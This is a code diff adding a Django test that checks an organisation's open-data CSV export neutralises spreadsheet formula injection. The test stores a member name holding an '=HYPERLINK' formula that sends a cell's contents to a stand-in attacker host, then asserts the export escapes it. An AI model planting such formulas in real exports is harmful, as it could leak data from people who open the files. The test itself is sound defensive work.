@@ -77,3 +77,14 @@ def test_unknown_organisation_is_404(client, db):
 def test_ledger_page_query_count_is_pinned(client, organisation, django_assert_max_num_queries):
     with django_assert_max_num_queries(8):
         assert client.get(f"/o/{organisation.slug}/ledger/").status_code == 200
+
+
+def test_open_data_csv_cells_cannot_run_as_spreadsheet_formulas(client, organisation, secretary):
+    from openassembly.members.models import Member
+
+    hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
+    Member.objects.filter(organisation=organisation, name="Sec Retary").update(name=hostile)
+    body = client.get(f"/o/{organisation.slug}/open-data.csv").content.decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert rows[0]["holder"] == "'" + hostile
+    assert not [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]
